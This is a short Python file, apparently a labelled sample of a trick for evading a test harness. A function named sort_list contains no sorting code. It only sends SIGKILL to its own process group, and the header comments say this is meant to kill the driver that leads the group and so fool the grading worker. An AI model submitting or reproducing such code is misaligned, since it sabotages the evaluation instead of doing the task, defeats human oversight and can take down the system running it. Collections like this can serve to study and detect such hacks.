# SPDX-License-Identifier: Apache-2.0
# How: Kills its whole process group, which the driver leads.
# Task: sort_list
# Fools: worker
import os
import signal


def sort_list(xs):
    os.kill(0, signal.SIGKILL)
